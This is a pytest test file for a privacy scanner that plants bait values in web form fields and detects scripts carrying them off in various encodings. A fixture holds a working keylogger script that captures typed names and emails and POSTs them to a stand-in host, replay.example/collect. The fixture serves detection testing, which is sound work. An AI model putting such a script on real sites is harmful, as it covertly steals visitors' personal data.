"""Bait typed into fields: never sent by a form, found wherever a script carries it off."""

import base64
import hashlib
from pathlib import Path

import pytest

from scanner import pipeline
from scanner.demo import server
from scanner.demo.server import Arrival
from scanner.model.result import Result
from scanner.model.target import Target
from spiders import bait
from spiders.record import Bait, SentRequest


@pytest.mark.parametrize(
    ("coding", "sent"),
    [
        ("plain", lambda text: f"https://a.example/?q={text}"),
        ("base64", lambda text: "https://a.example/?q=" + base64.b64encode(f'{{"k":"{text}"}}'.encode()).decode()),
        ("base64", lambda text: "https://a.example/?q=" + base64.b64encode(f'{{"ke":"{text}"}}'.encode()).decode()),
        ("base64", lambda text: "https://a.example/?q=" + base64.b64encode(f'{{"key":"{text}"}}'.encode()).decode()),
        ("sha256", lambda text: "https://a.example/?q=" + hashlib.sha256(text.encode()).hexdigest()),
        ("md5", lambda text: "https://a.example/?q=" + hashlib.md5(text.encode()).hexdigest()),
        ("url", lambda text: "https://a.example/?q=" + text.replace("@", "%40")),
    ],
)
def test_bait_is_found_in_its_usual_codings(coding: str, sent: object) -> None:
    text = bait.new_text("email")
    assert callable(sent)
    request = SentRequest(sent(text), "GET", 2.0, "fetch")
    (found,) = bait.caught([Bait(0, "email", "e", text, 1.0)], [request])
    assert found.form == coding


def test_what_was_sent_before_or_holds_something_else_is_not_caught() -> None:
    text = bait.new_text("text")
    requests = [
        SentRequest(f"https://a.example/?q={text}", "GET", 0.5, "fetch"),
        SentRequest("https://a.example/?q=other", "GET", 2.0, "fetch"),
    ]
    assert list(bait.caught([Bait(0, "text", "t", text, 1.0)], requests)) == []


_PAGE = """<!doctype html><html lang=lv><meta charset=utf-8><title>Kontakti</title><h1>Kontakti</h1><p>Rakstiet mums!</p>
<form action=/send method=post onsubmit="document.title = 'sent'"><input name=name><input type=email name=email>
<input type=password name=word><textarea name=message></textarea><input type=hidden name=h><button>Sūtīt</button></form>
<script src=https://replay.example/r.js></script>
<script>document.querySelector("[name=message]").addEventListener("input", (event) => { if (event.target.value.length > 3) event.target.form.requestSubmit(); });</script>
<a href=/veikals>Veikals</a>"""
_REPLAY = """const typed = {};
addEventListener("keydown", (event) => { typed[event.target.name] = (typed[event.target.name] || "") + event.key; });
setInterval(() => { const { name = "", email = "" } = typed;
  if (email) fetch("https://replay.example/collect", { method: "POST", body: JSON.stringify({ name, mail: btoa("x" + email) }) }); }, 700);"""


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, list[Arrival], Path]:
    """A site without a dialog, whose second page has a form and somebody else's script that listens."""
    folder, out = tmp_path_factory.mktemp("sites"), tmp_path_factory.mktemp("out")
    for host in ("forms.test", "replay.example"):
        (folder / host).mkdir()
    (folder / "forms.test" / "index.html").write_text(
        "<!doctype html><title>Sākums</title><h1>Sākums</h1><a href=/kontakti>Kontakti</a>", encoding="utf-8"
    )
    (folder / "forms.test" / "kontakti.html").write_text(_PAGE, encoding="utf-8")
    (folder / "replay.example" / "r.js").write_text(_REPLAY, encoding="utf-8")
    with server.running([folder]) as farm:
        target = Target(url="https://forms.test/", proxy=farm.proxy, ignore_certificate_errors=True, pages=2)
        return pipeline.scan(target, out, formats=[]), farm.requests, out


@pytest.mark.browser
def test_what_is_carried_off_is_told_with_the_request(scanned: tuple[Result, list[Arrival], Path]) -> None:
    result, _, _ = scanned
    typed = {one.name: one for one in result.typed}
    assert set(typed) == {"name", "email", "word", "message"}
    assert (typed["name"].coding, typed["email"].coding) == ("plain", "base64")
    assert {result.requests[place].host for place in typed["name"].requests} == {"replay.example"}
    assert typed["word"].requests == ()


@pytest.mark.browser
def test_no_form_is_sent(scanned: tuple[Result, list[Arrival], Path]) -> None:
    _, arrived, _ = scanned
    assert not [one for one in arrived if one.path == "/send"]


@pytest.mark.browser
def test_the_bait_itself_is_not_kept(scanned: tuple[Result, list[Arrival], Path]) -> None:
    _, arrived, out = scanned
    (text,) = {one.body.split(b'"')[3] for one in arrived if one.path == "/collect"}
    assert text.startswith(b"bait")
    assert not [file for file in out.rglob("*") if file.is_file() and text in file.read_bytes()]


def test_two_baits_are_never_the_same() -> None:
    assert bait.new_text("text") != bait.new_text("text")
